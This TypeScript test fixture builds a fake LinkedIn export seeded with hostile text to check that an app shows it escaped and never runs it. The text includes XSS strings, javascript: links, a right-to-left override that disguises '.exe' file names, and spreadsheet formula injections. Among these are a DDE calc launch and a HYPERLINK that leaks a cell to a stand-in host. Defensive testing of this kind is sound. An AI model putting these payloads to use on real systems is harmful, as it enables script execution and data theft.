// Runtime: any. An export whose text tries to act: HTML and script, `javascript:` links, a
// right-to-left override, and spreadsheet formulas, in posts, comments, private messages, column
// names and file names. A reader must count all of it as plain text; a report must show it as
// text (escaped), never run, render or evaluate it. Reused by the report and view tests.

import Papa from 'papaparse';
import { matchFile } from '../../../shared/catalog/matchFile';
import { createTextDecoder } from '../../../shared/platform/universalGlobals';
import { csvText } from '../../../shared/sample/csvWriter';
import type { ExpectedFile, GeneratedExport, GeneratedFile } from '../../../shared/sample/types';
import { baseExport, pathStartingWith, utf8 } from './baseExport';

/** Each one is a complete item (a post, a comment, a message) in the hostile export. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert("posted")</script> hello',
  '<img src=x onerror=alert(1)> look at this',
  '[read more](javascript:alert(document.cookie)) and javascript:void(0)',
  'Quarterly plan \u202Efdp.exe\u202C done',
  '=HYPERLINK("https://example.invalid/?leak="&A1,"Open")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
];

/** Columns added to Skills.csv (the first also replaces Reactions' date column): listed as unknown, as text. */
export const HOSTILE_COLUMNS: readonly string[] = ['<script>alert("column")</script>', '=HYPERLINK("https://example.invalid","x")', '\u202Eevil column', '@SUM(A1:A9)'];

/** Files the app does not know, listed by name in every report. */
export const HOSTILE_FILE_NAMES: readonly string[] = [
  '<img src=x onerror=alert(1)>.csv',
  '=HYPERLINK("https-example.invalid","x").csv',
  'invoice\u202Efdp.exe.csv',
  '+cmd notes.csv',
];

/** A day inside the export's span, so every hostile item is dated. */
const ITEM_DATE = '2026-08-20 10:00:00';

function rowsOfFile(file: GeneratedFile): string[][] {
  return Papa.parse<string[]>(createTextDecoder('utf-8').decode(file.bytes), { skipEmptyLines: true }).data;
}

function withRows(file: GeneratedFile, extra: (header: readonly string[]) => string[][], quoteAll = false): { file: GeneratedFile; added: number } {
  const [header, ...rows] = rowsOfFile(file);
  const added = extra(header!);
  return { file: { path: file.path, bytes: utf8(csvText(header!, [...rows, ...added], { quoteAll })) }, added: added.length };
}

function hostileMessage(header: readonly string[], from: string, content: string, i: number): string[] {
  const values: Record<string, string> = {
    'CONVERSATION ID': `2-hostile-${i}`,
    'CONVERSATION TITLE': content,
    FROM: from,
    TO: 'Invented Recipient',
    DATE: `${ITEM_DATE} UTC`,
    SUBJECT: content,
    CONTENT: content,
    FOLDER: 'INBOX',
    'IS MESSAGE DRAFT': 'false',
    'IS CONVERSATION DRAFT': 'false',
  };
  return header.map((column) => values[column] ?? '');
}

/**
 * The base 2026 export with every hostile text appended as a post, a comment and a message the
 * member sent; hostile columns added to Skills.csv and in place of Reactions' date column; four
 * unknown files with hostile names.
 * `expected` is updated to match (rows and category counts).
 */
export function hostileTextExport(): GeneratedExport {
  const base = baseExport();
  const member = base.expected.memberName;
  const changes = new Map<string, { file: GeneratedFile; added: number }>();
  const change = (path: string, extra: (header: readonly string[]) => string[][], quoteAll = false) => {
    changes.set(path, withRows(base.files.find((f) => f.path === path)!, extra, quoteAll));
  };
  change(pathStartingWith(base, 'Shares_'), () => HOSTILE_TEXTS.map((text) => [ITEM_DATE, `https://www.linkedin.com/feed/update/urn%3Ali%3Ashare%3A7${String(HOSTILE_TEXTS.indexOf(text)).padStart(18, '0')}`, text, '', '', 'PUBLIC']));
  change(pathStartingWith(base, 'Comments_'), () => HOSTILE_TEXTS.map((text) => [ITEM_DATE, 'https://www.linkedin.com/feed/update/urn%3Ali%3Aactivity%3A7000000000000000001', text]));
  change('messages.csv', (header) => HOSTILE_TEXTS.map((text, i) => hostileMessage(header, member, text, i)), true);

  const skills = base.files.find((f) => f.path === 'Skills.csv')!;
  const [, ...skillRows] = rowsOfFile(skills);
  const skillsFile = { path: 'Skills.csv', bytes: utf8(csvText(['Name', ...HOSTILE_COLUMNS], skillRows.map((row) => [...row, ...HOSTILE_COLUMNS.map(() => 'x')]))) };
  const unknownFiles = HOSTILE_FILE_NAMES.map((path) => ({ path, bytes: utf8(`Note\n${HOSTILE_TEXTS[0]}\n`) }));

  // Reactions with its date column renamed to script: the changed-format warning names it.
  const reactionsPath = pathStartingWith(base, 'Reactions_');
  const [reactionsHeader, ...reactionRows] = rowsOfFile(base.files.find((f) => f.path === reactionsPath)!);
  const reactionsFile = { path: reactionsPath, bytes: utf8(csvText(reactionsHeader!.map((c) => (c === 'Date' ? HOSTILE_COLUMNS[0]! : c)), reactionRows)) };

  const replaced = new Map([...[...changes].map(([path, c]) => [path, c.file] as const), ['Skills.csv', skillsFile], [reactionsPath, reactionsFile]]);
  const files = [...base.files.map((f) => replaced.get(f.path) ?? f), ...unknownFiles];
  const categories = { ...base.expected.categories };
  const expectedFiles: ExpectedFile[] = base.expected.files.map((f) => {
    if (f.path === reactionsPath) return { ...f, firstDay: null, lastDay: null };
    const changed = changes.get(f.path);
    if (!changed) return f;
    const category = matchFile(f.path)?.entry.category;
    if (category) categories[category] += changed.added;
    return { ...f, rows: f.rows + changed.added, lastDay: f.lastDay !== null && f.lastDay > ITEM_DATE.slice(0, 10) ? f.lastDay : ITEM_DATE.slice(0, 10) };
  });
  for (const file of unknownFiles) expectedFiles.push({ path: file.path, catalogId: null, rows: 1, firstDay: null, lastDay: null });
  return { ...base, files, expected: { ...base.expected, files: expectedFiles, categories } };
}
